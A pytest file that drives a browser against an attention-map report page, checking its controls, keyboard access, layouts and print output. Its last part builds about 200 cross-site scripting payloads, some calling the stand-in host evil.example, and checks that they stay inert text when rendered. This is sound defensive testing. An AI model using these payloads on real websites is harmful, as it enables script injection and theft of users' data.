"""A page in a real Chromium: what its controls change, also by keyboard, and what hostile text does."""

import json
import shutil
from collections.abc import Callable
from itertools import cycle, product
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml

from attnrun.analysis.maps import AttentionMap
from attnrun.analysis.packing import unpack
from attnrun.escape import for_terminal
from tests.experiments.small import rows_of
from tests.report.conftest import call, data_of

Open = Callable[..., Any]

pytestmark = pytest.mark.slow


def shown_weights(page: Any, panel: int = 0) -> list[float]:
    """The weights in the table of a panel."""
    cells = page.locator(".panel").nth(panel).locator(".step-table data")
    return [float(value) for value in cells.evaluate_all("cells => cells.map((cell) => cell.value)")]


def map_of(pages: dict[str, Path], name: str, item: int = 0, run: int = 0) -> AttentionMap:
    return unpack(data_of(pages[name].read_text())["items"][item]["views"][0]["maps"][run])


def choose(page: Any, group: str, value: object) -> None:
    page.locator(f"#{group} input[value='{value}']").check(force=True)


def test_layer_head_and_step_change_the_weights_that_are_shown(opened: Open, pages: dict[str, Path]) -> None:
    page, expected = opened(pages["transformer"]), map_of(pages, "transformer")
    np.testing.assert_allclose(shown_weights(page), expected.mean().mean(0), atol=1e-5)
    for layer, head in product(("mean", 0, 1), ("mean", 0, 2)):
        choose(page, "layers", layer)
        choose(page, "heads", head)
        parts = [None if one == "mean" else [one] for one in (layer, head)]
        matrix = expected.choose(*parts).mean()
        for step in (1, len(expected.queries)):
            page.locator("#step").fill(str(step))
            np.testing.assert_allclose(shown_weights(page), matrix[step - 1], atol=1e-5)
            assert expected.queries[step - 1] in page.locator("#step-name").inner_text()
        page.locator("#step").fill("0")
        np.testing.assert_allclose(shown_weights(page), matrix.mean(0), atol=1e-5)
    page.locator("button.head").nth(4).click()
    assert page.locator("#layers input:checked").get_attribute("value") == "1"
    assert page.locator("#heads input:checked").get_attribute("value") == "1"
    np.testing.assert_allclose(shown_weights(page), expected.choose([1], [1]).mean().mean(0), atol=1e-5)


def test_a_token_shows_what_it_looks_at_and_what_looks_at_it(opened: Open, pages: dict[str, Path]) -> None:
    page, matrix = opened(pages["transformer"]), map_of(pages, "transformer").mean()
    page.locator(".tokens.query button").nth(1).hover()
    np.testing.assert_allclose(shown_weights(page), matrix[1], atol=1e-5)
    assert page.locator(".lines line").count() <= matrix.shape[1]
    shares = page.locator(".tokens.key button").evaluate_all("all => all.map((one) => +one.dataset.share)")
    np.testing.assert_allclose(shares, matrix[1] / matrix.max(), atol=1e-3)
    page.locator(".tokens.key button").nth(0).hover()
    np.testing.assert_allclose(shown_weights(page), matrix[:, 0], atol=1e-5)
    page.locator("h1").hover()
    np.testing.assert_allclose(shown_weights(page), matrix.mean(0), atol=1e-5)
    page.locator(".tokens.query button").nth(2).click()
    assert page.locator("#step").input_value() == "3"


def test_everything_is_reached_by_the_keyboard(opened: Open, pages: dict[str, Path]) -> None:
    page, items = opened(pages["transformer"]), data_of(pages["transformer"].read_text())["items"]
    source = page.locator("#texts dd").first
    page.locator("#sample").focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    assert source.inner_text() == items[2]["source"]
    page.keyboard.press("ArrowUp")
    assert source.inner_text() == items[1]["source"]
    page.keyboard.press("Tab")  # the order
    page.keyboard.press("b")
    best = max(items, key=lambda item: (item["scores"][0], -item["place"]))
    assert source.inner_text() == best["source"]
    page.locator("#layers input:checked").focus()
    page.keyboard.press("ArrowRight")
    assert page.locator("#layers input:checked").get_attribute("value") == "0"
    page.locator("#step").focus()
    page.keyboard.press("ArrowRight")
    expected = unpack(best["views"][0]["maps"][0]).choose([0], None).mean()
    np.testing.assert_allclose(shown_weights(page), expected[0], atol=1e-5)
    page.locator(".tokens.query button").first.focus()
    page.keyboard.press("ArrowDown")
    np.testing.assert_allclose(shown_weights(page), expected[1], atol=1e-5)
    page.keyboard.press("Enter")
    assert page.locator("#step").input_value() == "2"
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    unnamed = page.evaluate(
        "[...document.querySelectorAll('button, select, input')].filter((one) => !one.labels?.length && "
        "!one.textContent.trim() && !one.getAttribute('aria-label')).length"
    )
    assert unnamed == 0


def test_two_runs_stand_side_by_side_with_their_difference(opened: Open, pages: dict[str, Path]) -> None:
    page = opened(pages["both"], viewport={"width": 1280, "height": 900})
    view = data_of(pages["both"].read_text())["items"][0]["views"][0]
    means = [unpack(one).mean() for one in view["maps"]]
    for run, mean in enumerate(means):
        np.testing.assert_allclose(shown_weights(page, run), mean.mean(0), atol=1e-5)
    assert page.locator("#panels h3").all_inner_texts() == ["A: transformer", "B: translation"]
    found = page.evaluate(
        """() => {
        const data = JSON.parse(document.getElementById("data").textContent);
        const drawn = document.querySelectorAll("#difference canvas.heat").length;
        return [data.items[0].views[0].rows.length, drawn];
        }"""
    )
    assert found == [len(view["rows"]), 1]
    if view["rows"]:
        assert f"{len(view['rows'])} of {len(means[0])} rows" in page.locator("#difference").inner_text()
    heads = page.locator("#summary table").first.locator("th").all_inner_texts()
    assert heads[1:] == ["A: transformer", "B: translation"]
    assert "experiment" in page.locator("#config-tables table").first.inner_text()


def test_the_heat_map_tells_the_weight_under_the_pointer(opened: Open, pages: dict[str, Path]) -> None:
    page, one = opened(pages["points"]), map_of(pages, "points")
    canvas = page.locator("canvas.heat").first
    canvas.scroll_into_view_if_needed()
    box, matrix = canvas.bounding_box(), one.mean()
    page.mouse.move(box["x"] + 0.6 * box["width"], box["y"] + 0.6 * box["height"])
    query, rest = page.locator(".readout").first.inner_text().split(" → ")
    key, weight = rest.split(": ")
    row, column = one.queries.index(query), one.keys.index(key)
    assert float(weight) == pytest.approx(matrix[row, column], abs=6e-4)
    np.testing.assert_allclose(shown_weights(page), matrix[row], atol=1e-5)


@pytest.mark.parametrize("name", ["transformer", "both", "points", "blind"])
def test_it_is_readable_on_a_phone_in_the_dark_and_on_paper(
    opened: Open, pages: dict[str, Path], name: str
) -> None:
    phone = opened(pages[name], viewport={"width": 375, "height": 700}, color_scheme="dark")
    assert phone.evaluate("document.documentElement.scrollWidth") == 375
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = phone.evaluate(ground)
    phone.emulate_media(color_scheme="light")
    assert phone.evaluate(ground) != dark
    phone.emulate_media(media="print", color_scheme="dark")
    assert phone.evaluate(ground) == "rgb(255, 255, 255)"
    assert phone.pdf().startswith(b"%PDF")


CALLS = ["window.hit=1", "alert(1)", "fetch('https://evil.example/')", "document.title='hit'"]
TEMPLATES = [
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload={}>",
    "\"><svg/onload={}>", "'-{}-'", "javascript:{}", "<iframe src=\"javascript:{}\">", "<body onpageshow={}>",
    "<a href=javascript:{}>x</a>", "<style>@import 'https://evil.example/{}'</style>", "${{{}}}",
    "<details open ontoggle={}>", "<math><mtext></p><img src onerror={}>", "\\u003cscript>{}\\u003c/script>",
    "<!--<script>{}-->", "]]><script>{}</script>", "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>", "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<template><script>{}</script></template>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<base href=https://evil.example/{}>", "<object data=https://evil.example/{}>",
    "<embed src=javascript:{}>",
    "<form action=https://evil.example/{}><button>", "<marquee onstart={}>", "%3Cscript%3E{}%3C/script%3E",
    "<img src=https://evil.example/{}>", "<a onmouseover={}>x", "\u2028<script>{}</script>",
    "<x style=\"background:url(https://evil.example/{})\">",
    "&lt;script&gt;{}&lt;/script&gt;", "<script src=https://evil.example/{}></script>",
    "<select onfocus={} autofocus>",
    "<textarea onfocus={} autofocus>", "<keygen onfocus={} autofocus>", "<audio src onerror={}>", "`{}`",
    "<frameset onload={}>", "<table background=javascript:{}>", "<isindex type=image src=1 onerror={}>",
    "<bdo dir=rtl onclick={}>", "<button formaction=javascript:{}>", "<img srcset='x 1x' onerror={}>",
    "<svg><animate onbegin={} attributeName=x>", "<svg><set onbegin={}>", "<svg><a href=javascript:{}>",
    "<noscript><p title=\"</noscript><img src onerror={}>\">",
]  # fmt: skip
PAYLOADS = [template.format(called) for template, called in product(TEMPLATES, CALLS)]


@pytest.fixture(scope="module")
def hostile(runs: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a run with a payload in its name, its config, every text of its samples and its metrics."""
    place = tmp_path_factory.mktemp("hostile")
    directory = place / PAYLOADS[2].replace("/", "_")
    shutil.copytree(runs / "outputs/transformer/one", directory)
    rows = rows_of(directory)
    texts = cycle(PAYLOADS)
    rows = [{**row, **{side: next(texts) for side in row}} for row in rows * 9]
    (directory / "samples/test.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    config = yaml.safe_load((directory / "config.yaml").read_text())
    config["corpus"]["path"] = PAYLOADS[0]
    (directory / "config.yaml").write_text(yaml.safe_dump(config))
    for name, key in (("result.json", "metrics"), ("result.json", "versions")):
        data = json.loads((directory / name).read_text())
        data[key] |= {payload: payload for payload in PAYLOADS[:40]}
        data["warnings"] = PAYLOADS[:40]
        (directory / name).write_text(json.dumps(data))
    with (directory / "metrics.jsonl").open("a") as stream:
        stream.write(json.dumps({"step": 3, PAYLOADS[7]: 1.0}) + "\n")
    result = call(place, "report", str(directory), "-o", "page.html", "--sentences", "300")
    assert result.exit_code == 0, result.stderr
    return place / "page.html"


def test_hostile_text_stays_text(opened: Open, hostile: Path) -> None:
    assert len(PAYLOADS) == 200 and len(set(PAYLOADS)) == 200
    text = hostile.read_text()
    assert "evil.example" in text and "//evil.example" not in text
    page = opened(hostile)
    items = data_of(text)["items"]
    seen = {item[side] for item in items for side in ("source", "target")}
    assert {for_terminal(payload) for payload in PAYLOADS} <= seen | {one["answers"][0] for one in items}
    for order in ("best", "longest"):
        page.locator("#order").select_option(order)
        for _ in range(8):
            page.locator("#next").click()
            page.locator(".tokens.key button").first.hover()
    for closed in page.locator("details").all():
        closed.evaluate("one => { one.open = true; }")
    found = page.evaluate(
        """() => ({
        hit: window.hit ?? null,
        titled: document.title === "hit",
        handlers: [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(
            ({ name }) => name.startsWith("on"))).length,
        scripts: document.scripts.length,
        others: document.querySelectorAll(
            "iframe, object, embed, link, base, audio, video, img[src]:not([src^='data:'])").length,
        frames: frames.length,
        links: [...document.links].filter((one) => !one.getAttribute("href").startsWith("#")).length,
        })"""
    )
    nothing = {"hit": None, "titled": False, "handlers": 0, "others": 0, "frames": 0, "links": 0}
    assert found == {**nothing, "scripts": 2}
    assert for_terminal(PAYLOADS[0]) in page.locator("#config-tables").text_content()
    assert PAYLOADS[2].replace("/", "_") == page.locator("#subtitle").inner_text()
